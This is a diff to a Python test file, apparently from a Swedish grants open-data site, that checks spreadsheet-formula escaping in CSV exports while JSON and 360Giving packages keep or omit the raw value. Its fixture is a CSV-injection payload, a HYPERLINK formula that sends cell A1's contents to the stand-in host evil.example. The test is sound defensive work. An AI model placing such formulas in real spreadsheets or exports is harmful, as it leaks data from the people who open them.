@@ -11,6 +11,7 @@ from openpyxl import load_workbook
 
 from grants import exports, roles
 from grants.services.events import event_record
+from grants.tasks.opendata import write_release
 from tests import factories
 
 EVIL = '=HYPERLINK("http://evil.example/?"&A1,"Klicka")'
@@ -51,13 +52,15 @@ def evil_grant(db):
 
 
 def test_public_csv_escapes_a_formula_name_and_json_keeps_it(client, evil_grant):
-    rows = _csv(client.get("/beviljade-bidrag.csv"))
-    name_column = rows[0].index("Recipient Org:Name")
-    assert rows[1][name_column] == "'" + EVIL
-    data = client.get("/beviljade-bidrag.json").content.decode()
-    assert json.dumps(EVIL) in data
-    assert json.dumps("'" + EVIL) not in data
-    package = client.get("/oppna-data/360giving.json").content.decode()
+    write_release()
+    for path in ("/beviljade-bidrag.csv", "/beviljade-bidrag.csv?county=21"):  # file, stream
+        rows = _csv(client.get(path))
+        name_column = rows[0].index("Recipient Org:Name")
+        assert rows[1][name_column] == "'" + EVIL
+    data = b"".join(client.get("/beviljade-bidrag.json").streaming_content).decode()
+    assert json.dumps(EVIL, ensure_ascii=False) in data
+    assert json.dumps("'" + EVIL, ensure_ascii=False) not in data
+    package = b"".join(client.get("/oppna-data/360giving.json").streaming_content).decode()
     assert "'=HYPERLINK" not in package
 
 
